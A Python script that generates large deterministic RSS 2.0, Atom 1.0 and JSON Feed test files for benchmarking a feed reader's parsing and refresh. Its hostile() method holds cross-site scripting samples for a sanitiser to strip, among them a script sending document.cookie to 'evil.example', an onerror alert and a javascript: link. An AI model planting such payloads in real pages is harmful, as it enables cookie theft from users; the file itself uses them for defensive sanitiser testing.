#!/usr/bin/env python3
# gen-feeds.py: deterministic feeds for bench/parse and bench/refresh
#
# SPDX-License-Identifier: GPL-3.0-or-later
"""Write a large RSS 2.0, Atom 1.0 and JSON Feed 1.1 document into a folder.

The same seed always gives the same bytes.  Items carry realistic HTML: paragraphs,
absolute and relative links, images, lists, named and numeric entities, and, in a
few items, script/style elements, on* handlers and javascript: URLs that a
sanitiser has to remove.  Standard library only.

With --feeds N it writes N small feeds instead, one blog each (NNNN.rss, NNNN.atom and
NNNN.json in turn, so a third of each), every item with an image: the many-feeds
case of bench/refresh.
"""

import argparse
import datetime
import email.utils
import json
import os
import random
import sys
from xml.sax.saxutils import escape

SYLLABLES = ('ka', 'lo', 'mi', 'ne', 'ru', 'ta', 'vo', 'shi', 'en', 'dar', 'pel', 'quo', 'sto',
             'ri', 'ban', 'tel', 'or', 'ix', 'um', 'wen', 'gra', 'fi', 'hal', 'jo', 'zen')
ENTITIES = ('&amp;', '&eacute;', '&#8217;', '&nbsp;', '&quot;', '&#x2014;', '&lt;3', '&hellip;')
AUTHORS = ('Ada Lovelace', 'Grace Hopper', 'Ken Thompson', 'Barbara Liskov', 'Dennis Ritchie',
           'Frances Allen', 'Edsger Dijkstra', 'Margaret Hamilton', 'Niklaus Wirth',
           'Radia Perlman')
CATEGORIES = ('gnome', 'gtk', 'linux', 'rust', 'c', 'release', 'design', 'accessibility',
              'flatpak', 'security', 'networking', 'fonts', 'graphics', 'audio', 'i18n')
MEDIA = (('audio/mpeg', '.mp3'), ('video/mp4', '.mp4'), ('application/pdf', '.pdf'),
         ('image/jpeg', '.jpg'))
SITE = 'https://blog.example.org'


class Generator:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.words = [self._word() for _ in range(2000)]

    def _word(self):
        return ''.join(self.rng.choice(SYLLABLES) for _ in range(self.rng.randint(1, 4)))

    def words_(self, low, high):
        return ' '.join(self.rng.choice(self.words) for _ in range(self.rng.randint(low, high)))

    def sentence(self):
        text = self.words_(6, 16)
        return text[0].upper() + text[1:] + self.rng.choice(('.', '.', '.', '!', '?'))

    def inline(self):
        """A sentence with some inline markup and entities mixed in."""
        parts = self.sentence().split(' ')
        for _ in range(self.rng.randint(0, 3)):
            i = self.rng.randrange(len(parts))
            kind = self.rng.random()
            if kind < 0.3:
                parts[i] = '<strong>%s</strong>' % parts[i]
            elif kind < 0.5:
                parts[i] = '<em>%s</em>' % parts[i]
            elif kind < 0.65:
                parts[i] = '<code>%s()</code>' % parts[i]
            elif kind < 0.85:
                parts[i] = parts[i] + ' ' + self.rng.choice(ENTITIES)
            else:
                if self.rng.random() < 0.4:
                    href = '/%s/%s.html' % (self.rng.choice(self.words),
                                            self.rng.choice(self.words))
                elif self.rng.random() < 0.5:
                    href = '../%s/' % self.rng.choice(self.words)
                else:
                    href = 'https://%s.example.com/%s?id=%d&amp;ref=feed' % (
                        self.rng.choice(self.words), self.rng.choice(self.words),
                        self.rng.randint(1, 99999))
                parts[i] = '<a href="%s">%s</a>' % (href, parts[i])
        return ' '.join(parts)

    def paragraph(self):
        return '<p>%s</p>' % ' '.join(self.inline() for _ in range(self.rng.randint(2, 4)))

    def block(self):
        roll = self.rng.random()
        if roll < 0.12:
            items = ''.join('<li>%s</li>' % self.inline() for _ in range(self.rng.randint(2, 5)))
            return '<ul>%s</ul>' % items
        if roll < 0.22:
            src = self.rng.choice(('/images/%s.png', 'https://cdn.example.net/%s.jpg',
                                   'img/%s.webp'))
            return '<figure><img src="%s" alt="%s" width="640" height="360"><figcaption>%s' \
                   '</figcaption></figure>' % (src % self.rng.choice(self.words), self.words_(2, 5),
                                               self.sentence())
        if roll < 0.27:
            return '<blockquote><p>%s</p></blockquote>' % self.inline()
        if roll < 0.30:
            return '<pre><code>if (a &lt; b &amp;&amp; c)\n  %s ();\n</code></pre>' % \
                   self.rng.choice(self.words)
        return self.paragraph()

    def hostile(self):
        """Markup that a sanitiser must drop; used in a few items."""
        return self.rng.choice((
          '<script>document.location="https://evil.example/?c="+document.cookie</script>',
          '<style>body { display: none }</style>',
          '<img src="/x.png" onerror="alert(1)" alt="x">',
          '<a href="javascript:alert(document.domain)">click</a>',
          '<p onmouseover="steal()">hover me</p>',
          '<iframe src="https://ads.example/"></iframe>',
        ))

    def figure(self):
        return '<figure><img src="/images/%s.jpg" alt="%s" width="800" height="450">' \
               '<figcaption>%s</figcaption></figure>' % (self.rng.choice(self.words),
                                                        self.words_(2, 5), self.sentence())

    def item(self, index, start, site=SITE, feed=0, serial=None, spacing=37, image=False):
        """One item; @feed numbers the blog in --feeds mode (0 keeps the single-feed bytes),
        @serial counts items across feeds, @spacing is minutes between posts."""
        rng = self.rng
        content = [self.block() for _ in range(rng.randint(2, 5))]
        if image:
            content.insert(rng.randint(1, len(content)), self.figure())
        if (index if serial is None else serial) % 47 == 0:
            content.insert(rng.randrange(len(content) + 1), self.hostile())
        date = start - datetime.timedelta(minutes=spacing * index + rng.randint(0, 30))
        slug = '%s-%s-%d' % (rng.choice(self.words), rng.choice(self.words), index)
        enclosure = None
        if rng.random() < 0.3:
            mime, ext = rng.choice(MEDIA)
            enclosure = ('%s/media/%s%s' % (site, slug, ext), mime, rng.randint(10_000, 90_000_000))
        return {
          'index': index,
          'title': self.words_(3, 9).capitalize() + rng.choice(('', ' &amp; more', ' — part 2')),
          'link': '%s/posts/%s' % (site, slug),
          'guid': 'urn:uuid:%08x-%04x-4000-8000-%012x' % (index, feed, rng.getrandbits(48)),
          'date': date,
          'author': rng.choice(AUTHORS),
          'categories': rng.sample(CATEGORIES, rng.randint(1, 4)),
          'summary': self.sentence() + ' ' + self.sentence(),
          'content': '\n'.join(content),
          'enclosure': enclosure,
        }


def text_of_title(title):
    return title.replace('&amp;', '&')


def write_rss(path, items, title='Tidings benchmark (RSS 2.0)', site=SITE):
    with open(path, 'w', encoding='utf-8') as out:
        out.write('<?xml version="1.0" encoding="UTF-8"?>\n'
                  '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
                  ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
                  ' xmlns:atom="http://www.w3.org/2005/Atom">\n<channel>\n'
                  '<title>%s</title>\n<link>%s/</link>\n'
                  '<atom:link rel="self" href="%s/feed.rss" type="application/rss+xml"/>\n'
                  '<description>A large generated feed</description>\n<language>en</language>\n'
                  % (escape(title), site, site))
        for it in items:
            out.write('<item>\n<title>%s</title>\n<link>%s</link>\n'
                      '<guid isPermaLink="false">%s</guid>\n<pubDate>%s</pubDate>\n'
                      '<dc:creator>%s</dc:creator>\n'
                      % (escape(text_of_title(it['title'])), it['link'], it['guid'],
                         email.utils.format_datetime(it['date']), escape(it['author'])))
            for category in it['categories']:
                out.write('<category>%s</category>\n' % category)
            out.write('<description>%s</description>\n' % escape('<p>%s</p>' % it['summary']))
            out.write('<content:encoded><![CDATA[%s]]></content:encoded>\n' % it['content'])
            if it['enclosure']:
                out.write('<enclosure url="%s" type="%s" length="%d"/>\n' % it['enclosure'])
            out.write('</item>\n')
        out.write('</channel>\n</rss>\n')


def write_atom(path, items, title='Tidings benchmark (Atom 1.0)', site=SITE):
    with open(path, 'w', encoding='utf-8') as out:
        out.write('<?xml version="1.0" encoding="utf-8"?>\n'
                  '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">\n'
                  '<title>%s</title>\n<id>%s/</id>\n'
                  '<link href="%s/"/>\n<link rel="self" href="%s/feed.atom"/>\n'
                  '<updated>%s</updated>\n<author><name>Benchmark</name></author>\n'
                  % (escape(title), site, site, site,
                     items[0]['date'].strftime('%Y-%m-%dT%H:%M:%SZ')))
        for it in items:
            stamp = it['date'].strftime('%Y-%m-%dT%H:%M:%SZ')
            out.write('<entry>\n<title type="html">%s</title>\n<id>%s</id>\n'
                      '<link rel="alternate" type="text/html" href="%s"/>\n'
                      '<published>%s</published>\n<updated>%s</updated>\n'
                      '<author><name>%s</name></author>\n'
                      % (escape(it['title']), it['guid'], it['link'], stamp, stamp,
                         escape(it['author'])))
            for category in it['categories']:
                out.write('<category term="%s"/>\n' % category)
            if it['enclosure']:
                out.write('<link rel="enclosure" href="%s" type="%s" length="%d"/>\n'
                          % it['enclosure'])
            out.write('<summary type="html">%s</summary>\n' % escape('<p>%s</p>' % it['summary']))
            # Escaped summary, CDATA content: both forms are common in the wild.
            out.write('<content type="html" xml:base="%s/posts/"><![CDATA[%s]]></content>\n'
                      '</entry>\n' % (site, it['content']))
        out.write('</feed>\n')


def write_json(path, items, title='Tidings benchmark (JSON Feed 1.1)', site=SITE):
    feed = {
      'version': 'https://jsonfeed.org/version/1.1',
      'title': title,
      'home_page_url': site + '/',
      'feed_url': site + '/feed.json',
      'language': 'en',
      'items': [],
    }
    for it in items:
        item = {
          'id': it['guid'],
          'url': it['link'],
          'title': text_of_title(it['title']),
          'content_html': it['content'],
          'date_published': it['date'].strftime('%Y-%m-%dT%H:%M:%SZ'),
          'authors': [{'name': it['author']}],
          'tags': it['categories'],
        }
        if it['index'] % 2 == 0:
            item['summary'] = it['summary']
        if it['enclosure']:
            url, mime, size = it['enclosure']
            item['attachments'] = [{'url': url, 'mime_type': mime, 'size_in_bytes': size}]
        feed['items'].append(item)
    with open(path, 'w', encoding='utf-8') as out:
        json.dump(feed, out, ensure_ascii=False, separators=(',', ':'))
        out.write('\n')


def write_many(outdir, generator, start, feeds, items_per_feed):
    """Write @feeds small blogs, formats in turn, each file's mtime its newest item."""
    writers = (('rss', write_rss), ('atom', write_atom), ('json', write_json))
    rng = generator.rng
    total = 0
    for feed in range(feeds):
        ext, writer = writers[feed % 3]
        name = rng.choice(generator.words)
        site = 'https://%s%d.example.org' % (name, feed)
        title = rng.choice(('%s on %s', 'Notes from %s about %s', '%s writes: %s')) % (
            rng.choice(AUTHORS), generator.words_(1, 3))
        newest = start - datetime.timedelta(minutes=rng.randint(0, 60 * 24 * 30))
        spacing = rng.randint(6 * 60, 5 * 24 * 60)
        items = [generator.item(i, newest, site=site, feed=feed,
                                serial=feed * items_per_feed + i, spacing=spacing, image=True)
                 for i in range(items_per_feed)]
        path = os.path.join(outdir, '%04d.%s' % (feed, ext))
        writer(path, items, title=title, site=site)
        stamp = items[0]['date'].timestamp()
        os.utime(path, (stamp, stamp))
        total += os.path.getsize(path)
    print('%d feeds (%d RSS 2.0, %d Atom 1.0, %d JSON Feed 1.1), %d items each, %.1f MB'
          % (feeds, (feeds + 2) // 3, (feeds + 1) // 3, feeds // 3, items_per_feed, total / 1e6),
          file=sys.stderr)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split('\n\n')[0])
    parser.add_argument('outdir', help='folder to write feed.rss, feed.atom and feed.json into')
    parser.add_argument('--items', type=int, help='items per feed (20000; 20 with --feeds)')
    parser.add_argument('--feeds', type=int, default=0,
                        help='write this many small feeds NNNN.rss/.atom/.json instead')
    parser.add_argument('--seed', type=int, default=20240601, help='random seed')
    args = parser.parse_args()

    generator = Generator(args.seed)
    start = datetime.datetime(2024, 6, 1, 12, 0, 0, tzinfo=datetime.timezone.utc)
    os.makedirs(args.outdir, exist_ok=True)
    if args.feeds > 0:
        write_many(args.outdir, generator, start, args.feeds, args.items or 20)
        return 0

    count = args.items or 20000
    items = [generator.item(i, start) for i in range(count)]
    outputs = (('feed.rss', write_rss), ('feed.atom', write_atom), ('feed.json', write_json))
    for name, writer in outputs:
        path = os.path.join(args.outdir, name)
        writer(path, items)
        print('%-10s %6.1f MB  %d items' % (name, os.path.getsize(path) / 1e6, len(items)),
              file=sys.stderr)
    return 0


if __name__ == '__main__':
    sys.exit(main())
